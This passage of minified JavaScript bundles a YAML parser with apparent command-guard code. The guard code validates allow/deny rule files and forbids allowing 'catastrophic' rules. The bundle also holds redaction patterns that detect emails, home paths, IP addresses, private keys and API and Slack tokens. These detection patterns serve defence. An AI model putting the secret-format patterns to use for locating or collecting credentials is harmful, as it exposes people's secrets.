this.pos,n),this.pos=s),n}*pushUntil(e){let s=this.pos,r=this.buffer[s];for(;!e(r);)r=this.buffer[++s];return yield*this.pushToIndex(s,!1)}};iw.Lexer=qu});var Lu=D(aw=>{"use strict";var Nu=class{constructor(){this.lineStarts=[],this.addNewLine=e=>this.lineStarts.push(e),this.linePos=e=>{let s=0,r=this.lineStarts.length;
for(;s<r;){let o=s+r>>1;this.lineStarts[o]<e?s=o+1:r=o}if(this.lineStarts[s]===e)return{line:s+1,col:1};if(s===0)return{line:0,col:e};let n=this.lineStarts[s-1];
return{line:s,col:e-n+1}}}};aw.LineCounter=Nu});var ju=D(pw=>{"use strict";var OT=require("process"),lw=Va(),NT=Ou();function zs(t,e){for(let s=0;s<t.length;++s)if(t[s].type===e)return!0;return!1}function cw(t){
for(let e=0;e<t.length;++e)switch(t[e].type){case"space":case"comment":case"newline":break;default:return e}return-1}function uw(t){switch(t?.type){case"alias":case"\
scalar":case"single-quoted-scalar":case"double-quoted-scalar":case"flow-collection":return!0;default:return!1}}function Ha(t){switch(t.type){case"document":return t.
start;case"block-map":{let e=t.items[t.items.length-1];return e.sep??e.start}case"block-seq":return t.items[t.items.length-1].start;default:return[]}}function ln(t){
if(t.length===0)return[];let e=t.length;e:for(;--e>=0;)switch(t[e].type){case"doc-start":case"explicit-key-ind":case"map-value-ind":case"seq-item-ind":case"newl\
ine":break e}for(;t[++e]?.type==="space";);return t.splice(e,t.length)}function Ba(t,e){if(e.length<1e5)Array.prototype.push.apply(t,e);else for(let s=0;s<e.length;++s)
t.push(e[s])}function dw(t){if(t.start.type==="flow-seq-start")for(let e of t.items)e.sep&&!e.value&&!zs(e.start,"explicit-key-ind")&&!zs(e.sep,"map-value-ind")&&
(e.key&&(e.value=e.key),delete e.key,uw(e.value)?e.value.end?Ba(e.value.end,e.sep):e.value.end=e.sep:Ba(e.start,e.sep),delete e.sep)}var Du=class{constructor(e){
this.atNewLine=!0,this.atScalar=!1,this.indent=0,this.offset=0,this.onKeyLine=!1,this.stack=[],this.source="",this.type="",this.lexer=new NT.Lexer,this.onNewLine=
e}*parse(e,s=!1){this.onNewLine&&this.offset===0&&this.onNewLine(0);for(let r of this.lexer.lex(e,s))yield*this.next(r);s||(yield*this.end())}*next(e){if(this.source=
e,OT.env.LOG_TOKENS&&console.log("|",lw.prettyToken(e)),this.atScalar){this.atScalar=!1,yield*this.step(),this.offset+=e.length;return}let s=lw.tokenType(e);if(s)
if(s==="scalar")this.atNewLine=!1,this.atScalar=!0,this.type="scalar";else{switch(this.type=s,yield*this.step(),s){case"newline":this.atNewLine=!0,this.indent=0,
this.onNewLine&&this.onNewLine(this.offset+e.length);break;case"space":this.atNewLine&&e[0]===" "&&(this.indent+=e.length);break;case"explicit-key-ind":case"map\
-value-ind":case"seq-item-ind":this.atNewLine&&(this.indent+=e.length);break;case"doc-mode":case"flow-error-end":return;default:this.atNewLine=!1}this.offset+=e.
length}else{let r=`Not a YAML token: ${e}`;yield*this.pop({type:"error",offset:this.offset,message:r,source:e}),this.offset+=e.length}}*end(){for(;this.stack.length>
0;)yield*this.pop()}get sourceToken(){return{type:this.type,offset:this.offset,indent:this.indent,source:this.source}}*step(){let e=this.peek(1);if(this.type===
"doc-end"&&e?.type!=="doc-end"){for(;this.stack.length>0;)yield*this.pop();this.stack.push({type:"doc-end",offset:this.offset,source:this.source});return}if(!e)
return yield*this.stream();switch(e.type){case"document":return yield*this.document(e);case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-sc\
alar":return yield*this.scalar(e);case"block-scalar":return yield*this.blockScalar(e);case"block-map":return yield*this.blockMap(e);case"block-seq":return yield*this.
blockSequence(e);case"flow-collection":return yield*this.flowCollection(e);case"doc-end":return yield*this.documentEnd(e)}yield*this.pop()}peek(e){return this.stack[this.
stack.length-e]}*pop(e){let s=e??this.stack.pop();if(!s)yield{type:"error",offset:this.offset,source:"",message:"Tried to pop an empty stack"};else if(this.stack.
length===0)yield s;else{let r=this.peek(1);switch(s.type==="block-scalar"?s.indent="indent"in r?r.indent:0:s.type==="flow-collection"&&r.type==="document"&&(s.indent=
0),s.type==="flow-collection"&&dw(s),r.type){case"document":r.value=s;break;case"block-scalar":r.props.push(s);break;case"block-map":{let n=r.items[r.items.length-
1];if(n.value){r.items.push({start:[],key:s,sep:[]}),this.onKeyLine=!0;return}else if(n.sep)n.value=s;else{Object.assign(n,{key:s,sep:[]}),this.onKeyLine=!n.explicitKey;
return}break}case"block-seq":{let n=r.items[r.items.length-1];n.value?r.items.push({start:[],value:s}):n.value=s;break}case"flow-collection":{let n=r.items[r.items.
length-1];!n||n.value?r.items.push({start:[],key:s,sep:[]}):n.sep?n.value=s:Object.assign(n,{key:s,sep:[]});return}default:yield*this.pop(),yield*this.pop(s)}if((r.
type==="document"||r.type==="block-map"||r.type==="block-seq")&&(s.type==="block-map"||s.type==="block-seq")){let n=s.items[s.items.length-1];n&&!n.sep&&!n.value&&
n.start.length>0&&cw(n.start)===-1&&(s.indent===0||n.start.every(o=>o.type!=="comment"||o.indent<s.indent))&&(r.type==="document"?r.end=n.start:r.items.push({start:n.
start}),s.items.splice(-1,1))}}}*stream(){switch(this.type){case"directive-line":yield{type:"directive",offset:this.offset,source:this.source};return;case"byte-\
order-mark":case"space":case"comment":case"newline":yield this.sourceToken;return;case"doc-mode":case"doc-start":{let e={type:"document",offset:this.offset,start:[]};
this.type==="doc-start"&&e.start.push(this.sourceToken),this.stack.push(e);return}}yield{type:"error",offset:this.offset,message:`Unexpected ${this.type} token \
in YAML stream`,source:this.source}}*document(e){if(e.value)return yield*this.lineEnd(e);switch(this.type){case"doc-start":{cw(e.start)!==-1?(yield*this.pop(),yield*this.
step()):e.start.push(this.sourceToken);return}case"anchor":case"tag":case"space":case"comment":case"newline":e.start.push(this.sourceToken);return}let s=this.startBlockValue(
e);s?this.stack.push(s):yield{type:"error",offset:this.offset,message:`Unexpected ${this.type} token in YAML document`,source:this.source}}*scalar(e){if(this.type===
"map-value-ind"){let s=Ha(this.peek(2)),r=ln(s),n;e.end?(n=e.end,n.push(this.sourceToken),delete e.end):n=[this.sourceToken];let o={type:"block-map",offset:e.offset,
indent:e.indent,items:[{start:r,key:e,sep:n}]};this.onKeyLine=!0,this.stack[this.stack.length-1]=o}else yield*this.lineEnd(e)}*blockScalar(e){switch(this.type){case"\
space":case"comment":case"newline":e.props.push(this.sourceToken);return;case"scalar":if(e.source=this.source,this.atNewLine=!0,this.indent=0,this.onNewLine){let s=this.
source.indexOf(`
`)+1;for(;s!==0;)this.onNewLine(this.offset+s),s=this.source.indexOf(`
`,s)+1}yield*this.pop();break;default:yield*this.pop(),yield*this.step()}}*blockMap(e){let s=e.items[e.items.length-1];switch(this.type){case"newline":if(this.onKeyLine=
!1,s.value){let r="end"in s.value?s.value.end:void 0;(Array.isArray(r)?r[r.length-1]:void 0)?.type==="comment"?r?.push(this.sourceToken):e.items.push({start:[this.
sourceToken]})}else s.sep?s.sep.push(this.sourceToken):s.start.push(this.sourceToken);return;case"space":case"comment":if(s.value)e.items.push({start:[this.sourceToken]});else if(s.
sep)s.sep.push(this.sourceToken);else{if(this.atIndentedComment(s.start,e.indent)){let n=e.items[e.items.length-2]?.value?.end;if(Array.isArray(n)){Ba(n,s.start),
n.push(this.sourceToken),e.items.pop();return}}s.start.push(this.sourceToken)}return}if(this.indent>=e.indent){let r=!this.onKeyLine&&this.indent===e.indent,n=r&&
(s.sep||s.explicitKey)&&this.type!=="seq-item-ind",o=[];if(n&&s.sep&&!s.value){let i=[];for(let a=0;a<s.sep.length;++a){let l=s.sep[a];switch(l.type){case"newli\
ne":i.push(a);break;case"space":break;case"comment":l.indent>e.indent&&(i.length=0);break;default:i.length=0}}i.length>=2&&(o=s.sep.splice(i[1]))}switch(this.type){case"\
anchor":case"tag":n||s.value?(o.push(this.sourceToken),e.items.push({start:o}),this.onKeyLine=!0):s.sep?s.sep.push(this.sourceToken):s.start.push(this.sourceToken);
return;case"explicit-key-ind":!s.sep&&!s.explicitKey?(s.start.push(this.sourceToken),s.explicitKey=!0):n||s.value?(o.push(this.sourceToken),e.items.push({start:o,
explicitKey:!0})):this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:[this.sourceToken],explicitKey:!0}]}),this.onKeyLine=!0;
return;case"map-value-ind":if(s.explicitKey)if(s.sep)if(s.value)e.items.push({start:[],key:null,sep:[this.sourceToken]});else if(zs(s.sep,"map-value-ind"))this.
stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:o,key:null,sep:[this.sourceToken]}]});else if(uw(s.key)&&!zs(s.sep,"newline")){
let i=ln(s.start),a=s.key,l=s.sep;l.push(this.sourceToken),delete s.key,delete s.sep,this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[
{start:i,key:a,sep:l}]})}else o.length>0?s.sep=s.sep.concat(o,this.sourceToken):s.sep.push(this.sourceToken);else if(zs(s.start,"newline"))Object.assign(s,{key:null,
sep:[this.sourceToken]});else{let i=ln(s.start);this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:i,key:null,sep:[this.sourceToken]}]})}else
s.sep?s.value||n?e.items.push({start:o,key:null,sep:[this.sourceToken]}):zs(s.sep,"map-value-ind")?this.stack.push({type:"block-map",offset:this.offset,indent:this.
indent,items:[{start:[],key:null,sep:[this.sourceToken]}]}):s.sep.push(this.sourceToken):Object.assign(s,{key:null,sep:[this.sourceToken]});this.onKeyLine=!0;return;case"\
alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":{let i=this.flowScalar(this.type);n||s.value?(e.items.push({start:o,key:i,sep:[]}),this.
onKeyLine=!0):s.sep?this.stack.push(i):(Object.assign(s,{key:i,sep:[]}),this.onKeyLine=!0);return}default:{let i=this.startBlockValue(e);if(i){if(i.type==="bloc\
k-seq"){if(!s.explicitKey&&s.sep&&!zs(s.sep,"newline")){yield*this.pop({type:"error",offset:this.offset,message:"Unexpected block-seq-ind on same line with key",
source:this.source});return}}else r&&e.items.push({start:o});this.stack.push(i);return}}}}yield*this.pop(),yield*this.step()}*blockSequence(e){let s=e.items[e.items.
length-1];switch(this.type){case"newline":if(s.value){let r="end"in s.value?s.value.end:void 0;(Array.isArray(r)?r[r.length-1]:void 0)?.type==="comment"?r?.push(
this.sourceToken):e.items.push({start:[this.sourceToken]})}else s.start.push(this.sourceToken);return;case"space":case"comment":if(s.value)e.items.push({start:[
this.sourceToken]});else{if(this.atIndentedComment(s.start,e.indent)){let n=e.items[e.items.length-2]?.value?.end;if(Array.isArray(n)){Ba(n,s.start),n.push(this.
sourceToken),e.items.pop();return}}s.start.push(this.sourceToken)}return;case"anchor":case"tag":if(s.value||this.indent<=e.indent)break;s.start.push(this.sourceToken);
return;case"seq-item-ind":if(this.indent!==e.indent)break;s.value||zs(s.start,"seq-item-ind")?e.items.push({start:[this.sourceToken]}):s.start.push(this.sourceToken);
return}if(this.indent>e.indent){let r=this.startBlockValue(e);if(r){this.stack.push(r);return}}yield*this.pop(),yield*this.step()}*flowCollection(e){let s=e.items[e.
items.length-1];if(this.type==="flow-error-end"){let r;do yield*this.pop(),r=this.peek(1);while(r?.type==="flow-collection")}else if(e.end.length===0){switch(this.
type){case"comma":case"explicit-key-ind":!s||s.sep?e.items.push({start:[this.sourceToken]}):s.start.push(this.sourceToken);return;case"map-value-ind":!s||s.value?
e.items.push({start:[],key:null,sep:[this.sourceToken]}):s.sep?s.sep.push(this.sourceToken):Object.assign(s,{key:null,sep:[this.sourceToken]});return;case"space":case"\
comment":case"newline":case"anchor":case"tag":!s||s.value?e.items.push({start:[this.sourceToken]}):s.sep?s.sep.push(this.sourceToken):s.start.push(this.sourceToken);
return;case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":{let n=this.flowScalar(this.type);!s||s.value?e.items.push({start:[],key:n,
sep:[]}):s.sep?this.stack.push(n):Object.assign(s,{key:n,sep:[]});return}case"flow-map-end":case"flow-seq-end":e.end.push(this.sourceToken);return}let r=this.startBlockValue(
e);r?this.stack.push(r):(yield*this.pop(),yield*this.step())}else{let r=this.peek(2);if(r.type==="block-map"&&(this.type==="map-value-ind"&&r.indent===e.indent||
this.type==="newline"&&!r.items[r.items.length-1].sep))yield*this.pop(),yield*this.step();else if(this.type==="map-value-ind"&&r.type!=="flow-collection"){let n=Ha(
r),o=ln(n);dw(e);let i=e.end.splice(1,e.end.length);i.push(this.sourceToken);let a={type:"block-map",offset:e.offset,indent:e.indent,items:[{start:o,key:e,sep:i}]};
this.onKeyLine=!0,this.stack[this.stack.length-1]=a}else yield*this.lineEnd(e)}}flowScalar(e){if(this.onNewLine){let s=this.source.indexOf(`
`)+1;for(;s!==0;)this.onNewLine(this.offset+s),s=this.source.indexOf(`
`,s)+1}return{type:e,offset:this.offset,indent:this.indent,source:this.source}}startBlockValue(e){switch(this.type){case"alias":case"scalar":case"single-quoted-\
scalar":case"double-quoted-scalar":return this.flowScalar(this.type);case"block-scalar-header":return{type:"block-scalar",offset:this.offset,indent:this.indent,
props:[this.sourceToken],source:""};case"flow-map-start":case"flow-seq-start":return{type:"flow-collection",offset:this.offset,indent:this.indent,start:this.sourceToken,
items:[],end:[]};case"seq-item-ind":return{type:"block-seq",offset:this.offset,indent:this.indent,items:[{start:[this.sourceToken]}]};case"explicit-key-ind":{this.
onKeyLine=!0;let s=Ha(e),r=ln(s);return r.push(this.sourceToken),{type:"block-map",offset:this.offset,indent:this.indent,items:[{start:r,explicitKey:!0}]}}case"\
map-value-ind":{this.onKeyLine=!0;let s=Ha(e),r=ln(s);return{type:"block-map",offset:this.offset,indent:this.indent,items:[{start:r,key:null,sep:[this.sourceToken]}]}}}
return null}atIndentedComment(e,s){return this.type!=="comment"||this.indent<=s?!1:e.every(r=>r.type==="newline"||r.type==="space")}*documentEnd(e){this.type!==
"doc-mode"&&(e.end?e.end.push(this.sourceToken):e.end=[this.sourceToken],this.type==="newline"&&(yield*this.pop()))}*lineEnd(e){switch(this.type){case"comma":case"\
doc-start":case"doc-end":case"flow-seq-end":case"flow-map-end":case"map-value-ind":yield*this.pop(),yield*this.step();break;case"newline":this.onKeyLine=!1;default:
e.end?e.end.push(this.sourceToken):e.end=[this.sourceToken],this.type==="newline"&&(yield*this.pop())}}};pw.Parser=Du});var bw=D(bo=>{"use strict";var fw=_u(),LT=ao(),go=uo(),DT=xd(),jT=re(),WT=Lu(),mw=ju();function hw(t){let e=t.prettyErrors!==!1;return{lineCounter:t.lineCounter||
e&&new WT.LineCounter||null,prettyErrors:e}}function MT(t,e={}){let{lineCounter:s,prettyErrors:r}=hw(e),n=new mw.Parser(s?.addNewLine),o=new fw.Composer(e),i=Array.
from(o.compose(n.parse(t)));if(r&&s)for(let a of i)a.errors.forEach(go.prettifyError(t,s)),a.warnings.forEach(go.prettifyError(t,s));return i.length>0?i:Object.
assign([],{empty:!0},o.streamInfo())}function gw(t,e={}){let{lineCounter:s,prettyErrors:r}=hw(e),n=new mw.Parser(s?.addNewLine),o=new fw.Composer(e),i=null;for(let a of o.
compose(n.parse(t),!0,t.length))if(!i)i=a;else if(i.options.logLevel!=="silent"){i.errors.push(new go.YAMLParseError(a.range.slice(0,2),"MULTIPLE_DOCS","Source \
contains multiple documents; please use YAML.parseAllDocuments()"));break}return r&&s&&(i.errors.forEach(go.prettifyError(t,s)),i.warnings.forEach(go.prettifyError(
t,s))),i}function FT(t,e,s){let r;typeof e=="function"?r=e:s===void 0&&e&&typeof e=="object"&&(s=e);let n=gw(t,s);if(!n)return null;if(n.warnings.forEach(o=>DT.
warn(n.options.logLevel,o)),n.errors.length>0){if(n.options.logLevel!=="silent")throw n.errors[0];n.errors=[]}return n.toJS(Object.assign({reviver:r},s))}function VT(t,e,s){
let r=null;if(typeof e=="function"||Array.isArray(e)?r=e:s===void 0&&e&&(s=e),typeof s=="string"&&(s=s.length),typeof s=="number"){let n=Math.round(s);s=n<1?void 0:
n>8?{indent:8}:{indent:n}}if(t===void 0){let{keepUndefined:n}=s??e??{};if(!n)return}return jT.isDocument(t)&&!r?t.toString(s):new LT.Document(t,r,s).toString(s)}
bo.parse=FT;bo.parseAllDocuments=MT;bo.parseDocument=gw;bo.stringify=VT});var ww=D(ce=>{"use strict";var UT=_u(),HT=ao(),BT=nu(),Wu=uo(),zT=Bn(),Gs=re(),GT=Vs(),KT=qe(),YT=Hs(),QT=Bs(),XT=Va(),JT=Ou(),ZT=Lu(),eP=ju(),za=bw(),yw=Fn();ce.
Composer=UT.Composer;ce.Document=HT.Document;ce.Schema=BT.Schema;ce.YAMLError=Wu.YAMLError;ce.YAMLParseError=Wu.YAMLParseError;ce.YAMLWarning=Wu.YAMLWarning;ce.
Alias=zT.Alias;ce.isAlias=Gs.isAlias;ce.isCollection=Gs.isCollection;ce.isDocument=Gs.isDocument;ce.isMap=Gs.isMap;ce.isNode=Gs.isNode;ce.isPair=Gs.isPair;ce.isScalar=
Gs.isScalar;ce.isSeq=Gs.isSeq;ce.Pair=GT.Pair;ce.Scalar=KT.Scalar;ce.YAMLMap=YT.YAMLMap;ce.YAMLSeq=QT.YAMLSeq;ce.CST=XT;ce.Lexer=JT.Lexer;ce.LineCounter=ZT.LineCounter;
ce.Parser=eP.Parser;ce.parse=za.parse;ce.parseAllDocuments=za.parseAllDocuments;ce.parseDocument=za.parseDocument;ce.stringify=za.stringify;ce.visit=yw.visit;ce.
visitAsync=yw.visitAsync});var $w={};Ya($w,{checkGuardFile:()=>sP,readGuardFile:()=>tP});function tP(t,e){let s=new ht.LineCounter,r=f=>{let{line:m,col:h}=s.linePos(f);return`${e}:${m}:${h}`},
n=(0,ht.parseDocument)(t,{lineCounter:s,prettyErrors:!1,strict:!0,uniqueKeys:!0}),o=n.errors[0]??n.warnings[0];if(o)throw new tt(`${r(o.pos[0])}  ${o.message.split(
`
`)[0]}`);let i=(f,m)=>{throw new tt(`${r(f?.range?.[0]??0)}  ${m}`)},a=n.contents;if(!(0,ht.isMap)(a))return i(a,'must be a map with "schema: 1"');let l=new Map;
for(let{key:f,value:m}of a.items){let h=(0,ht.isScalar)(f)?String(f.value):"";kw.includes(h)||i(f,`unknown key "${h}"; there are ${kw.join(", ")}`),l.set(h,m)}let c=l.
get("schema");(!(0,ht.isScalar)(c)||c.value!==1)&&i(c??a,'must say "schema: 1"');let d=f=>{let m=l.get(f);return m===void 0?[]:(0,ht.isSeq)(m)?(m.items.length>vw&&
i(m,`${f}: has more than ${vw} entries`),m.items.map(h=>!(0,ht.isScalar)(h)||typeof h.value!="string"?i(h,`${f}: must hold texts`):{name:h.value,place:r(h.range?.[0]??
0)})):i(m,`${f}: must be a list`)},u=l.get("level"),p=ir.find(f=>(0,ht.isScalar)(u)&&u.value===f);return u!==void 0&&p===void 0&&i(u,`level: must be one of ${ir.
join(", ")}`),{level:p,allow:d("allow"),deny:d("deny"),rules:d("rules")}}function sP({allow:t,deny:e},s){let r=new Map(s.map(n=>[n.id,n]));for(let{name:n,place:o}of[
...t,...e])if(!r.has(n)&&!xw.includes(n))throw new tt(`${o}  there is no rule "${n}"`,"`gatebench guard --list` prints the rules.");for(let{name:n,place:o}of t){
if(r.get(n)?.severity==="catastrophic")throw new tt(`${o}  the rule "${n}" is catastrophic and cannot be allowed`);if(xw.includes(n))throw new tt(`${o}  "${n}" \
cannot be allowed: what was not read may be catastrophic`);if(e.some(i=>i.name===n))throw new tt(`${o}  the rule "${n}" is both allowed and denied`)}}var ht,kw,
vw,xw,_w=Ue(()=>{"use strict";ht=zu(ww(),1);Qr();ar();kw=["schema","level","allow","deny","rules"],vw=500,xw=["unreadable-command","unverifiable-command","unpar\
sed-command"]});function rP(t){for(let e=0;e<t.length;e++){let s=t.charCodeAt(e);if(s>=55296&&s<=56319){if(e===t.length-1)return!0;let r=t.charCodeAt(e+1);if(!(r>=56320&&r<=57343))
return!0;e++}else if(s>=56320&&s<=57343)return!0}return!1}function xr(t,e=new Set){if(typeof t=="number"&&isNaN(t))throw new Error("NaN is not allowed");if(typeof t==
"number"&&!isFinite(t))throw new Error("Infinity is not allowed");if(typeof t=="string"&&rP(t))throw new Error("Lone surrogate is not allowed");if(t===null||typeof t!=
"object")return JSON.stringify(t);if(typeof t.toJSON=="function"){if(e.has(t))throw new Error("Circular reference detected");e.add(t);let r=xr(t.toJSON(),e);return e.
delete(t),r}if(e.has(t))throw new Error("Circular reference detected");e.add(t);let s;if(Array.isArray(t))s=`[${t.map(n=>xr(n===void 0||typeof n=="symbol"?null:
n,e)).join(",")}]`;else{let r=[];for(let n of Object.keys(t).sort())t[n]===void 0||typeof t[n]=="symbol"||r.push(`${xr(n)}:${xr(t[n],e)}`);s=`{${r.join(",")}}`}
return e.delete(t),s}var Sw=Ue(()=>{});function Fu(t){if(Mu(t))return JSON.stringify(t);if(Aw(t))return nP(t);if(Array.isArray(t))return`[${t.map(s=>Ew(s)?"null":Fu(s)).join(",")}]`;let e=xr(t);if(e===
void 0)throw new Error("value has no JSON form");return e}function nP(t){let e="";for(let s of Object.keys(t).sort()){let r=t[s];if(!Ew(r)){if(!s.isWellFormed())
throw new Error("Lone surrogate is not allowed");e+=`${e===""?"{":","}${JSON.stringify(s)}:${Fu(r)}`}}return e===""?"{}":`${e}}`}function Mu(t){switch(typeof t){case"\
string":return t.isWellFormed();case"number":return Number.isFinite(t);case"boolean":return!0;case"object":{if(t===null)return!0;if(Array.isArray(t))return t.every(
Mu);if(!Aw(t))return!1;let e;for(let s of Object.keys(t)){if(e!==void 0&&s<e||!s.isWellFormed()||!Mu(t[s]))return!1;e=s}return!0}default:return!1}}function Aw(t){
if(typeof t!="object"||t===null||"toJSON"in t)return!1;let e=Object.getPrototypeOf(t);return e===Object.prototype||e===null}function Vu(t){return(0,Cw.hash)("sh\
a256",t)}function Tw(t){return Vu(Fu(t))}var Cw,Ew,Pw=Ue(()=>{"use strict";Cw=require("node:crypto");Sw();Ew=t=>t===void 0||typeof t=="symbol"});var Uu,Rw=Ue(()=>{"use strict";Uu=({id:t,placeholder:e=`[redacted:${t}#{n}]`},s)=>e.replace("{n}",String(s))});var oP,iP,Iw,qw=Ue(()=>{"use strict";oP="q8Zr2LmX9vKd4TbN7wYc1HsJ6pGf3QeR5aUiOx0B",iP="9f86d081884c7d659a2feaa0c55ad015",Iw=t=>t.replace(/\{(random|RANDOM|hex) (\d+)\}/g,
(e,s,r)=>{let n=(s==="hex"?iP:oP).repeat(3).slice(0,Number(r));return s==="RANDOM"?n.toUpperCase():n})});var aP,lP,cP,Ow,Nw=Ue(()=>{"use strict";aP=new Set(["agent app admin build builder circleci codespace coder dev developer docker git jenkins linuxbrew me","name\
 node nobody oracle public root runner runneradmin runner-admin shared default ubuntu user","username users vagrant vscode work workspace you your-name yourname\
 youruser your_user_name"].flatMap(t=>t.split(" "))),lP=/\.(?:png|jpe?g|gif|svg|webp|avif|ico|css|s[ac]ss|less|[cm]?[jt]sx?|json|html?|map|ya?ml|toml|lock|txt|log|xml|service|socket|timer|target|mount|path|plist|tar|gz|tgz|zip|whl|jar|patch|diff|class|java|kt|cpp|hpp)$/i,
cP=/(?:^|[.])(?:example(?:\.(?:com|org|net|edu))?|test|invalid|localhost|local)$/i,Ow=[{id:"email",pattern:/(?<![\w.+%-])[A-Za-z0-9_][\w.+%-]{0,63}@(?:[A-Za-z0-9][A-Za-z0-9-]{0,62}\.){1,5}[A-Za-z]{2,24}(?![\w@-])/g,
hints:["@"],reach:65,accepts:t=>{let[e,s]=t.split("@");return e===""||/^(?:git|noreply|no-reply|this|super|return|break|continue|root|user|you|name|email|someone)$/i.
test(e)||s==="users.noreply.github.com"||cP.test(s)||lP.test(s)?!1:!/^v?\d{1,9}\.\d/.test(s)&&/\.(?:[a-z]+|[A-Z]+)$/.test(s)},examples:{"Ada <ada.lovelace+x@ana\
lytical.engine.org>,":"Ada <[redacted:email#1]>,","mailto:ada@engine.org?subject=x":"mailto:[redacted:email#1]?subject=x","git@github.com:a/b.git":"git@github.c\
om:a/b.git",'"import pytest\\n@pytest.mark\\ndef"':'"import pytest\\n@pytest.mark\\ndef"',"pkg@1.0.0-beta.rc @scope/pkg icon@2x.png getty@tty1.service this@Oute\
r.run x@example.com":"pkg@1.0.0-beta.rc @scope/pkg icon@2x.png getty@tty1.service this@Outer.run x@example.com"}},{id:"home-user",pattern:/(?:(?<![\w.~-])\/(?:home|Users)\/|\b[A-Za-z]:(?:\\{1,4}|\/)Users(?:\\{1,4}|\/))([A-Za-z0-9_][\w.-]{0,63})(?![\w.-]|\*)/g,
hints:["/home/","/Users/","Users\\",":/Users"],reach:6,accepts:t=>!aP.has(t.toLowerCase()),examples:{"/home/ada/project/a.ts":"/home/[redacted:home-user#1]/proj\
ect/a.ts","at file:///Users/ada.l/x":"at file:///Users/[redacted:home-user#1]/x","C:\\Users\\Ada\\x, C:\\\\Users\\\\Ada\\\\x":"C:\\Users\\[redacted:home-user#1]\\x\
, C:\\\\Users\\\\[redacted:home-user#1]\\\\x","/home/agent/x /home/runner/y src/home/page.ts GET /api/Users/7":"/home/agent/x /home/runner/y src/home/page.ts GE\
T /api/Users/7"}},{id:"ip-address",optional:!0,pattern:/(?<![\w.])(?:(?:25[0-5]|2[0-4]\d|1?\d?\d)\.){3}(?:25[0-5]|2[0-4]\d|1?\d?\d)(?![\w.]*\d)|(?<![\w:.])(?:[0-9A-Fa-f]{1,4}:){7}[0-9A-Fa-f]{1,4}(?![\w:.])/g,
accepts:t=>!/^(?:127\.|0\.0\.0\.0$|255\.255|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.)/.test(t),examples:{"from 10.20.30.40:443":"from [redacted:ip-address#1]:44\
3","2a00:1450:4001:81b:0:0:0:200e":"[redacted:ip-address#1]","127.0.0.1 1.2.3.4.5 v1.2.3":"127.0.0.1 1.2.3.4.5 v1.2.3"}}]});function Lw(t){let e=new Map;for(let r of t)e.set(r,(e.get(r)??0)+1);let s=0;for(let r of e.values())s-=r/t.length*Math.log2(r/t.length);return s}function Dw(t){
let{least_entropy:e,entropy_above:s,has:r=[],not:n=[],no_end:o}=t;return(i,a)=>o!==void 0&&i.endsWith(o)||n.includes("placeholder")&&uP.test(i)||e!==void 0&&Lw(
i)<e||s!==void 0&&Lw(i)<=s||!r.every(l=>dP[l].test(i))||n.includes("words")&&pP.test(i)?!1:!(n.includes("local-address")&&fP.test(a))}var dP,uP,pP,fP,jw=Ue(()=>{
"use strict";dP={digit:/\d/,letter:/[A-Za-z]/},uP=/^(?:x{3,}|\*{3,}|\.{3,}|0+|1234567\d*|changeme|change_me|password|passwd|secret|token|none|null|undefined|true|false|example|dummy|test(?:ing)?|fake|sample|placeholder|redacted|your[_-].*|my[_-].*|<.*>|\$\{.*\}|\{\{.*\}\}|\$[A-Z_]+|%\(?.*\)?s?|process\.env.*|os\.environ.*|env\..*)$/i,
pP=/^(?:[$<{%]|https?:\/\/|(?:\.{0,2}|~)\/(?:[\w.-]{1,100}\/)+[\w.-]*$|process\.|os\.|env\.|(?:your|my|test|fake|dummy|example|sample|xxx)[_-])|^[./~@#]{0,3}(?:[A-Za-z]{1,40}|v?\d{1,4})(?:[-_./:@ ]{1,2}(?:[A-Za-z]{1,40}\d{0,4}|v?\d{1,4})){0,30}$/i,
fP=/^[^@]*@(?:localhost|127\.0\.0\.1|\[::1\]|(?:[\w-]+\.){0,20}(?:example(?:\.com|\.org|\.net)?|test|invalid|local))\.?(?![\w.-]|:\/\/)/i});var Ww,Mw=Ue(()=>{"use strict";Ww=JSON.parse(`[{"id":"private-key","patches":"high","pattern":"-----BEGIN (?:[A-Z0-9]{1,20} ){0,3}PRIVATE KEY(?: BLOCK)?-----[A-\
Za-z0-9+/=\\\\s\\\\\\\\n\\"',.:-]{60,20000}","examples":{"finds":["-----BEGIN EC PRIVATE KEY-----\\n{random 40}\\n{random 40}\\n-----END EC PRIVATE KEY-----"],"leaves":["\
-----BEGIN PUBLIC KEY-----"]}},{"id":"private-key","pattern":"-----BEGIN (?:[A-Z0-9]{1,20} ){0,3}PRIVATE KEY(?: BLOCK)?-----((?:(?!-----)[A-Za-z0-9+/=\\\\s\\\\\\\\',.\
:;()-]|\\"[\\\\s+.\\\\\\\\n]{0,20}\\"){60,20000})","texts":{"hints":["-----BEGIN "],"quotes":true},"examples":{"redacts":{"-----BEGIN RSA PRIVATE KEY-----\\n{random 40}\\\
n{random 40}\\n-----END RSA PRIVATE KEY-----\\nand on":"-----BEGIN RSA PRIVATE KEY-----[redacted:private-key#1]-----END RSA PRIVATE KEY-----\\nand on"},"leaves":["\
-----BEGIN PUBLIC KEY-----"]}},{"id":"model-provider-key","pattern":"\\\\b(?:sk-(?:ant-|or-|proj-|svcacct-|admin-)[A-Za-z0-9_-]{20,250}|sk-[A-Za-z0-9]{32,64}|hf_[\
A-Za-z0-9]{30,50}|gsk_[A-Za-z0-9]{40,60}|xai-[A-Za-z0-9]{60,90}|r8_[A-Za-z0-9]{35,45}|pplx-[A-Za-z0-9]{40,60})(?![A-Za-z0-9])","accepts":{"entropy_above":3.2,"h\
as":["digit"]},"texts":{"hints":["sk-","hf_","gsk_","xai-","r8_","pplx-"]},"examples":{"redacts":{"key sk-ant-api03-{random 40}-AA":"key [redacted:model-provide\
r-key#1]","sk-proj-{random 40}":"[redacted:model-provider-key#1]","hf_{random 34}":"[redacted:model-provider-key#1]"},"leaves":["sk-loading-indicator-container-\
wide","a task-9f86d081884c7d659a2feaa0c55ad015"]}},{"id":"slack-token","pattern":"\\\\bxox[abeoprs]-[A-Za-z0-9-]{20,250}","texts":{"hints":["xox"]},"examples":{"r\
